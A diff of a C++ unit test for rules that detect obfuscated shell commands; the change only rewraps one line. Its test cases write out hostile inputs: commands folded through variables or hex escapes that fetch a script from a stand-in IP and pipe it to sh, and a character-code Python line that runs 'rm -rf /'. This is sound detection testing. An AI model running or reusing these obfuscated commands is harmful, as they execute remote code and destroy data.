@@ -116,7 +116,8 @@ TEST(ShippedRules, ViewsCatchHiddenNamesAndNotNearMisses) {
         {"set a=cu& set b=rl& %a%%b% -s http://198.51.100.2/x | sh", "folded"},
         {R"x(bash -c "$(printf '\x63\x75\x72\x6c -s http://198.51.100.2/x | sh')")x", "hex"},
         {"python3 -c \"exec(''.join(map(chr,[105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,"
-         "40,39,114,109,32,45,114,102,32,47,39,41])))\"", "character-codes"},
+         "40,39,114,109,32,45,114,102,32,47,39,41])))\"",
+         "character-codes"},
         {"curl -fsSL https://get.example.dev/install.sh | bash", ""},
         {R"(echo "curl" | grep -c "sh")", "clean"},
         {R"(echo 'c'url | tee "s"h.txt)", "clean"},
